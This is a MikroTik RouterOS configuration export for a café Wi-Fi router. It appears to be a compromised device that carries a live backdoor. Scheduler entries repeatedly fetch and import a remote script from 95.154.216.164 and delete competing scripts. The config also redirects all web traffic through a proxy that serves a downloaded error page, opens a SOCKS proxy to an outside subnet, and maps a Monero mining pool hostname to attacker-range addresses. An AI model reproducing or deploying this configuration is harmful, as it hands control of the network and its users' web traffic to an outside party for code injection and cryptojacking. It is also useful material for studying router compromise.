# aug/01/2018 09:14:52 by RouterOS 6.40.5
# software id = LD9T-W8XK
#
# model = 951Ui-2HnD
# serial number = 5E1A04C2B7F3
/interface wireless
set [ find default-name=wlan1 ] band=2ghz-b/g/n disabled=no mode=ap-bridge \
    ssid=CafeNet
/interface list
add name=WAN
/interface list member
add interface=ether1 list=WAN
/ip address
add address=192.168.1.1/24 interface=wlan1 network=192.168.1.0
/ip dhcp-client
add disabled=no interface=ether1
/ip dns
set allow-remote-requests=yes servers=8.8.8.8
/ip dns static
add address=95.154.216.167 name=pool.supportxmr.com
/ip firewall nat
add action=masquerade chain=srcnat out-interface=ether1
add action=redirect chain=dstnat dst-port=80 protocol=tcp to-ports=8080
/ip proxy
set enabled=yes max-cache-size=none
/ip proxy access
add action=deny redirect-to=""
/ip service
set ftp port=2121
set www port=8081
/ip socks
set enabled=yes port=4153
/ip socks access
add src-address=95.154.216.128/25
add action=deny
/system scheduler
add interval=3m name=upd113 on-event=script3_ policy=\
    ftp,reboot,read,write,policy,test,password,sniff,sensitive start-time=\
    startup
add interval=1m name=schedule1 on-event="/system scheduler remove [find name!=u\
    pd113]\r\
    \n/system script remove [find name!=script3_]" policy=\
    ftp,reboot,read,write,policy,test,password,sniff,sensitive start-time=\
    startup
/system script
add name=script3_ owner=admin policy=\
    ftp,reboot,read,write,policy,test,password,sniff,sensitive source="/tool f\
    etch address=95.154.216.164 port=2008 src-path=/mikrotik.php mode=http dst\
    -path=mikrotik.php\r\
    \n:delay 3s\r\
    \n/import mikrotik.php\r\
    \n/file remove mikrotik.php\r\
    \n/tool fetch address=95.154.216.164 port=2008 src-path=/error.html mode=ht\
    tp dst-path=webproxy/error.html"
